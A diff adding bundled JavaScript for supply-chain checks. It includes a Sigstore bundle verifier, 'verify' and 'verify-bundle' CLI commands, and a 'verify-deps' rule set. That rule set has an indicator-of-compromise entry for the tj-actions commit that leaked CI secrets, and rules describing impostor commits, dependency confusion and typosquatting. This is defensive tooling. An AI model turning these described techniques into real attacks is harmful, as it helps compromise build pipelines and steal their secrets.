+    const { getTrustedRoot } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(694)]).then(__nccwpck_require__.bind(__nccwpck_require__, 4423));
+    try {
+        return (await getTrustedRoot({ cachePath }));
+    }
+    catch (e) {
+        // Offline and air-gapped runs end here; say what to do instead.
+        throw new Error(`could not fetch the Sigstore trusted root over TUF (${e.message}); give a trusted_root.json instead`);
+    }
+}
+/**
+ * Why a certificate SAN is not a workflow of `want`, or undefined when it is.
+ * Every part is compared exactly: a policy for tag v1.0.1 never accepts v1.0.10.
+ */
+function githubIdentityProblem(san, want) {
+    const prefix = `https://github.com/${want.repository}/`;
+    if (!san?.startsWith(prefix))
+        return `certificate identity ${JSON.stringify(san)} is not a workflow of ${want.repository}`;
+    const rest = san.slice(prefix.length);
+    const at = rest.indexOf('@');
+    const [path, ref] = at < 0 ? [rest, ''] : [rest.slice(0, at), rest.slice(at + 1)];
+    if (!path.startsWith('.github/workflows/') || path.includes('..'))
+        return `certificate identity ${JSON.stringify(san)} is not a GitHub Actions workflow`;
+    if (want.workflow) {
+        const workflow = want.workflow.includes('/') ? want.workflow : `.github/workflows/${want.workflow}`;
+        if (path !== workflow)
+            return `signed by workflow ${path}, not ${workflow}`;
+    }
+    if (want.ref) {
+        const wantRef = want.ref.startsWith('refs/') ? want.ref : `refs/tags/${want.ref}`;
+        if (ref !== wantRef)
+            return `signed at ${ref}, not ${wantRef}`;
+    }
+    return undefined;
+}
+const escapeRegExp = (s) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+/**
+ * Verifies bundles against one trusted root. Build it once per run: the
+ * trust material is prepared once and reused for every bundle.
+ */
+class verify_BundleVerifier {
+    verifier;
+    constructor(root, key) {
+        let trust;
+        if (key) {
+            let publicKey;
+            try {
+                publicKey = core_dist.crypto.createPublicKey(key);
+            }
+            catch (e) {
+                throw new BundleVerificationError(`the public key is not a PEM public key (${e.message})`);
+            }
+            // The caller names the key, so every hint resolves to it.
+            trust = (0,verify_dist/* toTrustMaterial */.jO)(root, () => ({ publicKey, validFor: () => true }));
+        }
+        else {
+            trust = (0,verify_dist/* toTrustMaterial */.jO)(root);
+        }
+        this.verifier = new verify_dist/* Verifier */.BL(trust);
+    }
+    /** Verifies one bundle (parsed JSON); throws BundleVerificationError with the reason. */
+    verify(bundleJson, artifact, policy) {
+        let bundle;
+        try {
+            bundle = (0,bundle_dist/* bundleFromJSON */.vw)(bundleJson);
+        }
+        catch (e) {
+            throw new BundleVerificationError(`malformed bundle: ${firstLine(e)}`);
+        }
+        const kind = bundle.content.$case === 'dsseEnvelope' ? 'dsse' : 'message-signature';
+        let entity;
+        if ('bytes' in artifact) {
+            entity = (0,verify_dist/* toSignedEntity */.DC)(bundle, artifact.bytes);
+        }
+        else {
+            if (kind !== 'dsse')
+                throw new BundleVerificationError('a message-signature bundle is verified against the file itself, not a digest');
+            entity = (0,verify_dist/* toSignedEntity */.DC)(bundle);
+        }
+        let signer;
+        try {
+            signer = this.verifier.verify(entity, 'identity' in policy
+                ? { subjectAlternativeName: `^${escapeRegExp(policy.identity)}$`, extensions: { issuer: policy.issuer } }
+                : 'github' in policy
+                    ? {
+                        subjectAlternativeName: `^${escapeRegExp(`https://github.com/${policy.github.repository}/`)}`,
+                        extensions: { issuer: GITHUB_OIDC_ISSUER }
+                    }
+                    : 'oidcIssuer' in policy
+                        ? { extensions: { issuer: policy.oidcIssuer } }
+                        : undefined);
+        }
+        catch (e) {
+            throw new BundleVerificationError(firstLine(e));
+        }
+        const result = { kind, extensions: {} };
+        const leaf = leafCertificate(bundle);
+        if (leaf) {
+            result.identity = signer.identity?.subjectAlternativeName;
+            result.issuer = signer.identity?.extensions?.issuer;
+            result.extensions = fulcioExtensions(leaf);
+        }
+        if ('identity' in policy) {
+            // The library matched a regex; require equality ourselves.
+            if (result.identity !== policy.identity)
+                throw new BundleVerificationError(`certificate identity ${JSON.stringify(result.identity)} is not ${JSON.stringify(policy.identity)}`);
+            if (result.issuer !== policy.issuer)
+                throw new BundleVerificationError(`certificate issuer ${JSON.stringify(result.issuer)} is not ${JSON.stringify(policy.issuer)}`);
+        }
+        if ('oidcIssuer' in policy && (!leaf || result.issuer !== policy.oidcIssuer)) {
+            throw new BundleVerificationError(`certificate issuer ${JSON.stringify(result.issuer)} is not ${JSON.stringify(policy.oidcIssuer)}`);
+        }
+        if ('github' in policy) {
+            const problem = (result.issuer !== GITHUB_OIDC_ISSUER
+                ? `certificate issuer ${JSON.stringify(result.issuer)} is not ${GITHUB_OIDC_ISSUER}`
+                : undefined) ??
+                githubIdentityProblem(result.identity, policy.github) ??
+                // The source repository (caller) must be the same repository too.
+                (result.extensions['1.12'] !== undefined &&
+                    result.extensions['1.12'] !== `https://github.com/${policy.github.repository}`
+                    ? `built from ${result.extensions['1.12']}, not https://github.com/${policy.github.repository}`
+                    : undefined);
+            if (problem)
+                throw new BundleVerificationError(problem);
+        }
+        if (bundle.content.$case === 'dsseEnvelope') {
+            const env = bundle.content.dsseEnvelope;
+            const [alg, hex] = 'bytes' in artifact ? ['sha256', sha256Hex(artifact.bytes)] : parseDigest(artifact.digest);
+            if (env.payloadType !== IN_TOTO_PAYLOAD_TYPE)
+                throw new BundleVerificationError(`the DSSE payload type is ${env.payloadType}, not an in-toto statement that could name the artifact`);
+            const statement = parseStatement(env.payload);
+            if (!statement.subject.some((s) => s.digest?.[alg]?.toLowerCase() === hex))
+                throw new BundleVerificationError(`the artifact (${alg}:${hex}) is not a subject of the in-toto statement`);
+            result.statement = statement;
+        }
+        return result;
+    }
+}
+/** Checks that every file is a subject of the statement with its exact digest. */
+function checkSubjects(statement, files) {
+    const problems = [];
+    for (const f of files) {
+        const s = statement.subject.find((x) => x.name === f.name);
+        if (!s)
+            problems.push(`${f.name} is not a subject of the provenance`);
+        else if (s.digest?.sha256 !== f.sha256)
+            problems.push(`${f.name}: provenance digest sha256:${s.digest?.sha256} differs from the file's sha256:${f.sha256}`);
+    }
+    return problems;
+}
+function parseStatement(payload) {
+    let s;
+    try {
+        s = JSON.parse(payload.toString('utf8'));
+    }
+    catch {
+        throw new BundleVerificationError('the DSSE payload is not JSON');
+    }
+    if (!s || !Array.isArray(s.subject) || typeof s.predicateType !== 'string')
+        throw new BundleVerificationError('the DSSE payload is not an in-toto statement');
+    return s;
+}
+function sha256Hex(data) {
+    return (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
+}
+function parseDigest(d) {
+    const m = /^(sha256|sha512):([0-9a-f]+)$/i.exec(d.trim());
+    const [alg, hex] = m ? [m[1].toLowerCase(), m[2].toLowerCase()] : ['', ''];
+    if (!m || hex.length !== (alg === 'sha256' ? 64 : 128))
+        throw new BundleVerificationError(`not a digest of the form sha256:HEX or sha512:HEX: ${d}`);
+    return [alg, hex];
+}
+function leafCertificate(bundle) {
+    const vm = bundle.verificationMaterial.content;
+    if (vm.$case === 'certificate')
+        return core_dist.X509Certificate.parse(vm.certificate.rawBytes);
+    if (vm.$case === 'x509CertificateChain') {
+        const first = vm.x509CertificateChain.certificates[0];
+        return first && core_dist.X509Certificate.parse(first.rawBytes);
+    }
+    return undefined;
+}
+/** Fulcio's v2 extensions (DER UTF8Strings) by short OID, e.g. `1.12` → `https://github.com/org/repo`. */
+function fulcioExtensions(cert) {
+    const out = {};
+    for (let n = 8; n <= 22; n++) {
+        const ext = cert.extension(`1.3.6.1.4.1.57264.1.${n}`);
+        const value = ext?.valueObj.subs[0]?.value;
+        if (value)
+            out[`1.${n}`] = value.toString('utf8');
+    }
+    return out;
+}
+function firstLine(e) {
+    const err = e;
+    const msg = (err?.message ?? String(e)).split('\n')[0];
+    return err?.code && !msg.includes(err.code) ? `${err.code}: ${msg}` : msg;
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/progress.ts
+function progress(io, mode) {
+    const after = io.progressAfterMs ?? 1000;
+    let label = '';
+    let last = '';
+    let started = 0;
+    let shown = false;
+    let delay;
+    let ticker;
+    const seconds = () => `${((Date.now() - started) / 1000).toFixed(1)} s`;
+    const tick = () => io.status?.(`${label}: running… ${seconds()}${last ? `  ${last}` : ''}`);
+    return {
+        start(l) {
+            if (mode === 'quiet')
+                return;
+            [label, last, started, shown] = [l, '', Date.now(), mode === 'verbose'];
+            if (shown)
+                io.err(`${label}: running…`);
+            delay = setTimeout(() => {
+                if (shown && !io.status)
+                    return;
+                shown = true;
+                if (!io.status)
+                    return io.err(`${label}: running…`);
+                tick();
+                ticker = setInterval(tick, 250);
+            }, after);
+        },
+        message(m) {
+            if (m.startsWith(`${label}: `))
+                m = m.slice(label.length + 2);
+            last = m.split('\n')[0].slice(0, 100);
+            if (mode !== 'verbose')
+                return;
+            io.status?.('');
+            io.err(`${label}: ${m}`);
+        },
+        stop() {
+            clearTimeout(delay);
+            clearInterval(ticker);
+            if (!shown)
+                return;
+            io.status?.('');
+            io.err(`${label}: done in ${seconds()}`);
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/verify.ts
+// `verify`: check release files against their `<file>.sigstore.json` bundles,
+// signed by a GitHub Actions workflow of one repository. The identity is
+// derived from --repo (and --workflow, --ref when given) and every part of it
+// is compared exactly.
+
+
+
+
+
+const verify = {
+    summary: 'verify release files against their Sigstore bundles (signed by a workflow of --repo)',
+    usage: 'FILE... --repo OWNER/REPO [--workflow PATH] [--ref REF] [--bundle-dir DIR] [--trusted-root FILE] [--offline]',
+    positionals: true,
+    options: {
+        repo: { type: 'string', value: 'OWNER/REPO', help: 'the repository whose workflow signed the files (required)' },
+        workflow: {
+            type: 'string',
+            value: 'PATH',
+            help: 'the signing workflow, e.g. .github/workflows/release.yml (default: any workflow of the repo)'
+        },
+        ref: { type: 'string', value: 'REF', help: 'the ref it ran at, e.g. refs/tags/v1.0.0 or v1.0.0 (default: any)' },
+        'bundle-dir': {
+            type: 'string',
+            value: 'DIR',
+            help: 'where the <file>.sigstore.json bundles are (default: beside each file)'
+        },
+        'trusted-root': {
+            type: 'string',
+            value: 'FILE',
+            help: 'a trusted_root.json (default: the public-good root over TUF)'
+        },
+        offline: { type: 'boolean', help: 'use the public-good root embedded in this tool instead of TUF' },
+        ...HELP_OPTION
+    },
+    notes: ['Exit status: 0 every file verified; 1 a file did not verify; 2 a usage error.'],
+    async run(values, io) {
+        const files = values._ ?? [];
+        const repository = typeof values.repo === 'string' ? values.repo : '';
+        if (!files.length || !/^[^/\s]+\/[^/\s]+$/.test(repository)) {
+            io.err('verify: give one or more FILEs and --repo OWNER/REPO');
+            return 2;
+        }
+        const str = (k) => (typeof values[k] === 'string' ? values[k] : undefined);
+        const at = (p) => (0,external_node_path_.resolve)(io.cwd, p);
+        let verifier;
+        const p = progress(io, 'normal');
+        p.start('verify: the trusted root');
+        try {
+            const root = str('trusted-root')
+                ? await readTrustedRoot(at(str('trusted-root')))
+                : values.offline
+                    ? embeddedTrustedRoot()
+                    : await fetchTrustedRoot();
+            verifier = new verify_BundleVerifier(root);
+        }
+        catch (e) {
+            io.err(`verify: ${e.message.split('\n')[0]}`);
+            return 1;
+        }
+        finally {
+            p.stop();
+        }
+        const policy = { github: { repository, workflow: str('workflow'), ref: str('ref') } };
+        let failed = 0;
+        for (const file of files) {
+            const bundlePath = str('bundle-dir')
+                ? (0,external_node_path_.join)(at(str('bundle-dir')), `${(0,external_node_path_.basename)(file)}.sigstore.json`)
+                : `${at(file)}.sigstore.json`;
+            try {
+                const bytes = await read(at(file));
+                const bundle = JSON.parse((await read(bundlePath)).toString('utf8'));
+                const v = verifier.verify(bundle, { bytes }, policy);
+                io.out(`OK ${file}: signed by ${v.identity}\n`);
+            }
+            catch (e) {
+                failed++;
+                io.err(`FAILED ${file}: ${e instanceof BundleVerificationError ? e.message : e.message.split('\n')[0]}`);
+            }
+        }
+        return failed ? 1 : 0;
+    }
+};
+async function read(file) {
+    try {
+        return await (0,promises_.readFile)(file);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`cannot read ${file} (${e.code ?? e.message})`);
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/verify-bundle.ts
+// `verify-bundle`: the sigstore-conformance client protocol's verify-bundle
+// command. Exit status 0 only when the bundle verifies for the artifact and
+// the signer policy; 1 when it does not; 2 for usage errors.
+
+
+
+
+
+const verifyBundle = {
+    summary: 'verify one Sigstore bundle (sigstore-conformance protocol)',
+    usage: '--bundle FILE (--certificate-identity ID --certificate-oidc-issuer URL | --key PEM) [--trusted-root FILE] [--offline] FILE_OR_DIGEST',
+    positionals: true,
+    options: {
+        bundle: { type: 'string', value: 'FILE', help: 'the bundle (.sigstore.json)' },
+        'certificate-identity': { type: 'string', value: 'ID', help: 'the exact certificate SAN expected' },
+        'certificate-oidc-issuer': { type: 'string', value: 'URL', help: 'the exact OIDC issuer expected' },
+        key: { type: 'string', value: 'PEM', help: 'a PEM public key file (managed-key bundles)' },
+        'trusted-root': {
+            type: 'string',
+            value: 'FILE',
+            help: 'a trusted_root.json (default: the public-good root over TUF)'
+        },
+        staging: { type: 'boolean', help: "Sigstore's staging instance (needs --trusted-root in this version)" },
+        offline: { type: 'boolean', help: 'use the public-good root embedded in this tool instead of TUF' },
+        ...HELP_OPTION
+    },
+    notes: ['Exit status: 0 the bundle verifies; 1 it does not; 2 a usage error.'],
+    async run(values, io) {
+        // Fetching the trusted root over TUF can take a while: progress on stderr, as for every slow command.
+        const p = progress(io, 'normal');
+        p.start('verify-bundle');
+        const r = await verifyBundleCommand(values, io).finally(() => p.stop());
+        if (r.ok)
+            io.out(`OK: ${r.message}\n`);
+        else
+            io.err(`verify-bundle: ${r.message}`);
+        return r.code;
+    }
+};
+async function verifyBundleCommand(values, io) {
+    const usage = (message) => ({ ok: false, code: 2, message });
+    const str = (k) => (typeof values[k] === 'string' ? values[k] : undefined);
+    const positional = values._ ?? [];
+    if (positional.length !== 1)
+        return usage('give exactly one FILE_OR_DIGEST');
+    const bundlePath = str('bundle');
+    if (!bundlePath)
+        return usage('--bundle is required');
+    const identity = str('certificate-identity');
+    const issuer = str('certificate-oidc-issuer');
+    const keyPath = str('key');
+    if (keyPath ? identity || issuer : !(identity && issuer))
+        return usage('give --certificate-identity and --certificate-oidc-issuer, or --key');
+    const rootPath = str('trusted-root');
+    if (values.staging && !rootPath)
+        return usage('--staging needs --trusted-root (the staging root is not embedded in this version)');
+    const at = (p) => (0,external_node_path_.resolve)(io.cwd, p);
+    try {
+        const root = rootPath
+            ? await readTrustedRoot(at(rootPath))
+            : values.offline
+                ? embeddedTrustedRoot()
+                : await fetchTrustedRoot();
+        const key = keyPath ? await readText(at(keyPath), 'public key') : undefined;
+        const bundle = parseJson(await readText(at(bundlePath), 'bundle'), bundlePath);
+        const target = positional[0];
+        const artifact = /^sha(256|512):/i.test(target)
+            ? { digest: target }
+            : { bytes: await readBytes(at(target)), name: target };
+        const policy = key ? { key } : { identity: identity, issuer: issuer };
+        const v = new verify_BundleVerifier(root, key).verify(bundle, artifact, policy);
+        return {
+            ok: true,
+            code: 0,
+            message: `${bundlePath} verified${v.identity ? ` (signed by ${v.identity}, issuer ${v.issuer})` : ' (managed key)'}`
+        };
+    }
+    catch (e) {
+        const msg = e instanceof BundleVerificationError ? e.message : e.message.split('\n')[0];
+        return { ok: false, code: 1, message: `${bundlePath}: ${msg}` };
+    }
+}
+async function readText(file, what) {
+    return (await readBytes(file, what)).toString('utf8');
+}
+async function readBytes(file, what = 'artifact') {
+    try {
+        return await (0,promises_.readFile)(file);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`cannot read the ${what} ${file} (${e.code ?? e.message})`);
+    }
+}
+function parseJson(text, file) {
+    try {
+        return JSON.parse(text);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`${file} is not valid JSON (${e.message})`);
+    }
+}
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(4006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
+;// CONCATENATED MODULE: ./actions/verify-deps/src/iocs.ts
+const ACTION_IOCS = [
+    {
+        repo: 'tj-actions/changed-files',
+        sha: '0e58ed8671d6b60d0890c21b07f8835ace038e67',
+        what: "the commit every tag of tj-actions/changed-files pointed to on 14-15 March 2025; it printed the runner's secrets into the build log (CVE-2025-30066)",
+        reference: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
+    }
+];
+function findIoc(owner, repo, sha) {
+    const name = `${owner}/${repo}`.toLowerCase();
+    return ACTION_IOCS.find((i) => i.repo === name && i.sha === sha.toLowerCase());
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/rules.ts
+// Rules of verify-deps. Ids are stable: configs and code-scanning alerts refer to them.
+
+const TJ_ACTIONS = {
+    title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
+    url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
+};
+const PIP_HASHES = {
+    title: 'pip: secure installs (hash-checking mode)',
+    url: 'https://pip.pypa.io/en/stable/topics/secure-installs/'
+};
+const PEP_740 = { title: 'PEP 740: index support for digital attestations', url: 'https://peps.python.org/pep-0740/' };
+const src_rules_RULES = (0,src/* defineRules */.x0)({
+    UNPINNED_ACTION: {
+        id: 'actions/unpinned',
+        title: 'Action not pinned to a full commit SHA',
+        severity: 'high',
+        why: 'A tag or branch can be moved to new code by whoever controls the action repository; in the tj-actions/changed-files compromise every tag was repointed at a commit that dumped CI secrets into the logs. Only a full 40-character commit SHA is immutable.',
+        remediation: 'Replace the ref with the full commit SHA it resolves to and keep the version as a trailing comment, e.g. `uses: actions/checkout@<40-hex-sha> # v4.2.2`. Tools such as Dependabot (github-actions ecosystem) keep such pins and comments current.',
+        spec: ['S8-9'],
+        references: [TJ_ACTIONS]
+    },
+    UNPINNED_DOCKER: {
+        id: 'actions/docker-unpinned',
+        title: 'Docker action image not pinned to a digest',
+        severity: 'high',
+        why: 'A `docker://` image tag can be re-pushed with different content; only an `@sha256:` digest names one image.',
+        remediation: 'Pin the image by digest: `uses: docker://owner/image@sha256:<digest>`.',
+        spec: ['S8-9']
+    },
+    NO_VERSION_COMMENT: {
+        id: 'actions/no-version-comment',
+        title: 'SHA-pinned action without a version comment',
+        severity: 'low',
+        why: 'Without the version beside the SHA a reviewer cannot tell which release is pinned, and Dependabot cannot keep the comment current, so outdated or unexpected commits go unnoticed.',
+        remediation: 'Add the release the SHA belongs to as a trailing comment: `uses: owner/repo@<sha> # v1.2.3`.',
+        spec: ['S8-9', 'S8-10']
+    },
+    VERSION_MISMATCH: {
+        id: 'actions/version-mismatch',
+        title: 'Version comment does not match the pinned SHA',
+        severity: 'medium',
+        why: 'Reviewers and Dependabot trust the comment; a comment naming a release the SHA is not (pinact documents a `# v3.5.1` that was really v2.7.0) hides which code runs, and is a way to slip a different commit past review.',
+        remediation: 'Resolve the tag named in the comment and pin its commit, or correct the comment to the release the SHA belongs to.',
+        spec: ['S8-9', 'S8-10']
+    },
+    IMPOSTOR_COMMIT: {
+        id: 'actions/impostor-commit',
+        title: 'Pinned commit is not in the named action repository',
+        severity: 'critical',
+        why: "GitHub serves a commit pushed to any fork under the parent repository's name, so `owner/action@<sha>` can run code the owner never published. A commit reachable from none of the repository's branches or tags is such an impostor (or was force-pushed away).",
+        remediation: 'Pin a commit that a branch or release tag of the action repository contains: resolve the release tag you want (`git ls-remote https://github.com/owner/repo refs/tags/v1.2.3`) and use that SHA.',
+        spec: ['S8-9'],
+        references: [{ title: 'zizmor: impostor-commit', url: 'https://docs.zizmor.sh/audits/#impostor-commit' }]
+    },
+    COMPROMISED_ACTION: {
+        id: 'actions/compromised',
+        title: 'Known-compromised action commit or version',
+        severity: 'critical',
+        why: 'This commit or release is listed as malicious (an indicator of compromise or a security advisory): running it can leak every secret the job can read.',
+        remediation: 'Pin a clean release (see the advisory), rotate every secret the workflows that ran it could read, and review their logs for leaked values.',
+        spec: ['S8-9'],
+        references: [TJ_ACTIONS]
+    },
+    VULNERABLE_ACTION: {
+        id: 'actions/vulnerable',
+        title: 'Action version with a known vulnerability',
+        severity: 'high',
+        why: 'An advisory in the GitHub Actions ecosystem covers the release this reference pins.',
+        remediation: 'Update to a fixed release (see the advisory) and pin its commit SHA.',
+        spec: ['S8-9']
+    },
+    NESTED_UNPINNED: {
+        id: 'actions/nested-unpinned',
+        title: 'Pinned composite action uses an unpinned action',
+        severity: 'high',
+        why: "Pinning the outer action does not pin what it runs: a composite action's own `uses:` on a tag moves with that tag. The tj-actions compromise started this way, through an unpinned `reviewdog/action-setup@v1` inside another action.",
+        remediation: 'Ask the action maintainers to pin their nested actions by SHA, or replace the action with one that does (or vendor its steps).',
+        spec: ['S8-9'],
+        references: [
+            {
+                title: 'reviewdog/action-setup compromise (CVE-2025-30154)',
+                url: 'https://github.com/advisories/GHSA-qmg3-hpqr-gqvc'
+            }
+        ]
+    },
+    PY_UNPINNED: {
+        id: 'python/unpinned',
+        title: 'Python dependency not pinned to an exact version',
+        severity: 'medium',
+        why: 'A range lets every install pick whatever is newest on the index at that moment, including a release published by an attacker minutes earlier; builds are neither reproducible nor reviewable.',
+        remediation: 'Pin with `==` in a lock or requirements file generated by a resolver (`uv lock`, `pip-compile --generate-hashes`, `uv export`), and keep ranges only in `pyproject.toml`.',
+        spec: ['S8-9']
+    },
+    PY_MISSING_HASHES: {
+        id: 'python/missing-hashes',
+        title: 'Python dependency without hashes',
+        severity: 'medium',
+        why: "Without a hash the index (or anyone who can write to it) can serve different bytes for the same version. pip's hash-checking mode is all-or-nothing: once any requirement has `--hash`, every one must, or the install fails.",
+        remediation: 'Generate hashes for every file: `pip-compile --generate-hashes`, `uv pip compile --generate-hashes` or `uv export`; lock files from uv and Poetry record them.',
+        spec: ['S8-9'],
+        references: [PIP_HASHES]
+    },
+    PY_VCS_UNPINNED: {
+        id: 'python/vcs-unpinned',
+        title: 'VCS dependency not pinned to a full commit',
+        severity: 'high',
+        why: 'A branch or tag in a git URL can be moved by whoever controls that repository; only a full commit id names fixed code.',
+        remediation: 'Use the full 40-character commit: `pkg @ git+https://github.com/owner/repo@<sha>`.',
+        spec: ['S8-9']
+    },
+    PY_URL_DEPENDENCY: {
+        id: 'python/url-dependency',
+        title: 'URL or local path dependency without a pin',
+        severity: 'medium',
+        why: 'An archive URL without a hash can change under you, and a path dependency installs whatever is on disk; neither is checked against an index or an advisory database.',
+        remediation: 'Publish the package to an index and pin it, or add `--hash=sha256:...` to the URL requirement (`#sha256=` in the URL for pip).',
+        spec: ['S8-9']
+    },
+    PY_EXTRA_INDEX: {
+        id: 'python/extra-index-url',
+        title: 'Extra package index (dependency confusion)',
+        severity: 'high',
+        why: 'pip merges all indexes and takes the highest version from any of them: anyone can publish a package with the name of a private one on PyPI and it wins (dependency confusion, as in the 2022 PyTorch `torchtriton` attack).',
+        remediation: 'Use a single `--index-url` that proxies PyPI, or pin every package with hashes; with uv, declare the index with `explicit = true` and map packages to it.',
+        spec: ['S8-9'],
+        references: [
+            {
+                title: 'PyTorch torchtriton dependency confusion',
+                url: 'https://pytorch.org/blog/compromised-nightly-dependency/'
+            }
+        ]
+    },
+    PY_NO_LOCK: {
+        id: 'python/no-lock',
+        title: 'Python project without a lock file',
+        severity: 'low',
+        why: 'Without a lock, the versions installed in CI and releases are whatever the resolver picks that day, so neither a review nor an advisory check covers what actually ran.',
+        remediation: 'Commit a lock (`uv lock`, `poetry lock`, `pip-compile --generate-hashes`, or a PEP 751 `pylock.toml`) and install from it in CI and release jobs.',
+        spec: ['S8-9']
+    },
+    PY_VULNERABLE: {
+        id: 'python/vulnerable',
+        title: 'Python dependency with a known vulnerability',
+        severity: 'high',
+        why: 'An advisory in OSV covers the pinned version.',
+        remediation: 'Update to a fixed version (see the advisory), or record in the policy why the vulnerable code is not reachable, with an expiry date.',
+        spec: ['S8-9']
+    },
+    PY_MALICIOUS: {
+        id: 'python/malicious',
+        title: 'Known malicious Python package',
+        severity: 'critical',
+        why: "OSV lists this package version as malware (a `MAL-` record): installing it runs the attacker's code.",
+        remediation: 'Remove it, check every machine that installed it for compromise, and rotate the credentials those machines held.',
+        spec: ['S8-9'],
+        references: [{ title: 'OpenSSF malicious packages', url: 'https://github.com/ossf/malicious-packages' }]
+    },
+    PY_YANKED: {
+        id: 'python/yanked',
+        title: 'Pinned release was yanked',
+        severity: 'medium',
+        why: 'The maintainers withdrew this release from PyPI, usually because it is broken or unsafe (the compromised Ultralytics releases were yanked).',
+        remediation: 'Move to a release that is not yanked; read the yank reason first.',
+        spec: ['S8-9']
+    },
+    PY_PROVENANCE_MISSING: {
+        id: 'python/provenance-missing',
+        title: 'Locked file has no PEP 740 provenance',
+        severity: 'info',
+        why: 'Without provenance there is no signed link between the file on PyPI and the source repository and workflow that built it; adoption is still partial, so this is informational unless the policy requires it.',
+        remediation: 'Ask the maintainers to publish with Trusted Publishing and attestations (pypa/gh-action-pypi-publish does it by default), or accept the gap with an ignore.',
+        spec: ['S8-9'],
+        references: [PEP_740]
+    },
+    PY_PROVENANCE_INVALID: {
+        id: 'python/provenance-invalid',
+        title: 'PEP 740 provenance does not verify',
+        severity: 'critical',
+        why: 'The attestation PyPI serves for this file does not verify against Sigstore or does not name this exact file: the file or its provenance was tampered with.',
+        remediation: 'Do not install this file. Compare its digest with the lock, report it to the maintainers and to PyPI security.',
+        spec: ['S8-9'],
+        references: [PEP_740]
+    },
+    PY_PUBLISHER_MISMATCH: {
+        id: 'python/publisher-mismatch',
+        title: 'Trusted Publisher differs from the expected one',
+        severity: 'high',
+        why: 'The file was published from a repository, workflow or environment other than the one the policy (or the pylock attestation identities) expects: a takeover or a new, unreviewed release path.',
+        remediation: 'Confirm the change with the maintainers; then update the expected publisher in the policy or the lock.',
+        spec: ['S8-9']
+    },
+    PY_PROVENANCE_REGRESSION: {
+        id: 'python/provenance-regression',
+        title: 'Release lost the provenance its predecessor had',
+        severity: 'high',
+        why: 'The previous release was published with attestations and this one was not: the pattern of a stolen API token used to upload outside the trusted workflow (Ultralytics 8.3.45 and 8.3.46).',
+        remediation: 'Hold the update until the maintainers confirm the release; pin the previous release meanwhile.',
+        spec: ['S8-9'],
+        references: [{ title: 'Ultralytics compromise', url: 'https://github.com/ultralytics/ultralytics/issues/18027' }]
+    },
+    PY_TYPOSQUAT: {
+        id: 'python/typosquat',
+        title: 'Dependency name one typo from a popular package',
+        severity: 'high',
+        why: 'Attackers publish packages whose names are one keystroke from popular ones and wait for a typo in a requirements file; the install then runs their code.',
+        remediation: 'Check the name. If it is the intended package, add it to `typosquat-allow` in the policy.',
+        spec: ['S8-9']
+    },
+    PY_COOLDOWN: {
+        id: 'python/cooldown',
+        title: 'Locked release is younger than the cooldown',
+        severity: 'medium',
+        why: 'Most malicious releases are found and removed within hours or days; waiting a few days before adopting a release keeps them out (the compromised Ultralytics releases were up for 1 to 12 hours).',
+        remediation: "Lock an older release, or wait until the release is older than the policy's `cooldown-days`.",
+        spec: ['S8-9']
+    }
+});
+const src_rules_REGISTRY = new src/* RuleRegistry */.UD('verify-deps', (0,src/* rulesOf */.fD)(src_rules_RULES));
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/actions.ts
+// Checks of GitHub Actions references: the form of every `uses:` (offline),
+// then through the GitHub API the version comment, whether the commit belongs
+// to the named repository, known-compromised commits and unpinned actions
+// nested in pinned composite actions.
+
+
+
+const shortRef = (u) => `${u.owner}/${u.repo}${u.path ? `/${u.path}` : ''}`;
+const locOf = (u) => ({ file: u.file, line: u.line, column: u.column });
+function parseActionFiles(files) {
+    const refs = [];
+    const errors = [];
+    for (const f of files) {
+        try {
+            refs.push(...(0,src/* findUses */.O5)((0,src/* parseYamlFile */.BU)(f.text, f.path)));
+        }
+        catch (e) {
+            errors.push((0,src/* oneLine */.TN)(e));
+        }
+    }
+    return { refs, errors };
+}
+/** Form of each reference: full SHA or digest, a version comment; tags allowed per owner by policy. */
+function checkActionForm(refs, policy) {
+    const findings = [];
+    for (const u of refs) {
+        if (u.kind === 'local')
+            continue; // same repository, same commit: nothing to pin
+        const location = locOf(u);
+        if (u.kind === 'docker') {
+            if (!u.ref)
+                findings.push((0,src/* createFinding */.uP)(src_rules_RULES.UNPINNED_DOCKER, {
+                    message: `\`${u.raw}\` names a mutable image tag.`,
+                    location,
+                    evidence: u.raw
+                }));
+            continue;
+        }
+        if (!u.ref || !src/* FULL_SHA */.RG.test(u.ref)) {
+            const what = !u.ref
+                ? 'has no ref at all'
+                : /^[0-9a-f]{7,39}$/.test(u.ref)
+                    ? `uses a short SHA (${u.ref}), which can collide with a commit pushed to a fork`
+                    : `uses the mutable ref \`${u.ref}\``;
+            const allowed = u.ref && !/^[0-9a-f]{7,39}$/.test(u.ref)
+                ? policy.allowTags.find((a) => a.owner === u.owner?.toLowerCase())
+                : undefined;
+            findings.push((0,src/* createFinding */.uP)(src_rules_RULES.UNPINNED_ACTION, {
+                severity: allowed?.severity,
+                message: `\`${shortRef(u)}\` ${what}.${allowed ? ` The policy allows tags for ${u.owner}, so this is reported at ${allowed.severity}.` : ''}`,
+                location,
+                evidence: u.raw,
+                properties: { package: `${u.owner}/${u.repo}`.toLowerCase() }
+            }));
+        }
+        else if (!u.comment) {
+            findings.push((0,src/* createFinding */.uP)(src_rules_RULES.NO_VERSION_COMMENT, {
+                message: `\`${u.raw}\` has no version comment.`,
+                location,
+                evidence: u.raw
+            }));
+        }
+    }
+    return findings;
+}
+/** The version a comment names: `v4.2.2`, `4.2.2`, `tag=v1` or `pin @v2`; undefined for free text. */
+function commentVersion(comment) {
+    if (!comment)
+        return undefined;
